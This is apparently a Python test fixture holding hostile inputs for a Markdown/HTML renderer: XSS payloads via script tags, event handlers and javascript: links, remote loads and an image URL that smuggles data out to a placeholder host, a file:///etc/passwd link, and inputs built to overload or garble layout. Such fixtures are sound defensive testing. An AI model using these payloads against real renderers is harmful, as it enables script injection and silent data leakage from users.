"""Texts that try to run, to load, to reach out, to break the layout, or to break what reads them."""

from __future__ import annotations

ELSEWHERE = "https://example.invalid"
"""Where nothing may ever be asked for."""
RUN = "window.hacked=true"

HOSTILE: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "handlers": f'<img src=x onerror="{RUN}"><svg onload="{RUN}"></svg><details open ontoggle="{RUN}">',
    "frames": f'<iframe src="{ELSEWHERE}/"></iframe><object data="{ELSEWHERE}/o"></object><embed src="{ELSEWHERE}/">',
    "styles": f'<link rel="stylesheet" href="{ELSEWHERE}/a.css"><style>@import "{ELSEWHERE}/b.css";</style>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/"><base href="{ELSEWHERE}/">',
    "live links": f"[run](javascript:{RUN}) [data](data:text/html,<script>{RUN}</script>) [file](file:///etc/passwd)",
    "image": f"![]({ELSEWHERE}/?q=what-is-remembered)",
    "linked image": f"[![x]({ELSEWHERE}/i.png)]({ELSEWHERE}/l)",
    "image by reference": f"![x][there]\n\n[there]: {ELSEWHERE}/r.png",
    "image in a list": f"- ![]({ELSEWHERE}/1)\n  - `x ![]({ELSEWHERE}/2)`\n\n> ![]({ELSEWHERE}/3)",
    "image in a table": f"| ![]({ELSEWHERE}/4) |\n|---|\n| ![]({ELSEWHERE}/5) |",
    "image as HTML": f'<img src="{ELSEWHERE}/h.png"><picture><source srcset="{ELSEWHERE}/s.png"></picture>',
    "formula": f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\includegraphics{{{ELSEWHERE}/k.png}}$$",
    "directives": ":red[red] :material/home: :streamlit: :smile: :blue-background[blue] :small[x] {{x}} :::note",
    "footnote": f"see[^1]\n\n[^1]: ![]({ELSEWHERE}/f.png)",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src={ELSEWHERE}/n&#62; &NotAnEntity; &#0;",
    "open fence": f"```html\n<script>{RUN}</script>\n",
    "mermaid": f'```mermaid\nclick A href "{ELSEWHERE}/m"\n```',
    "huge table": "|a|b|\n|-|-|\n" + "|x|y|\n" * 500,
    "wide table": "|" + "a|" * 200 + "\n|" + "-|" * 200 + "\n|" + "wide|" * 200,
    "deep quotes": ">" * 400 + " deep",
    "deep lists": "\n".join("  " * depth + "- x" for depth in range(100)),
    "headings": "# heading\n\n" * 300,
    "long line": "a" * 200_000,
    "long Chinese line": "字" * 66_000,
    "overrides": "\u202e\u202dlive \u2066\u2067evil\u200b\u200d\ufeff\u00ad \u061c",
    "combining marks": "Z" + "\u0301\u0336\u0489" * 3_400,
    "control characters": "a\x00b\x01c\x1b[31md\x7fe\x85f\u2028g\u2029h",
    "lone surrogate": "before \ud83d after \udc00 end",
}
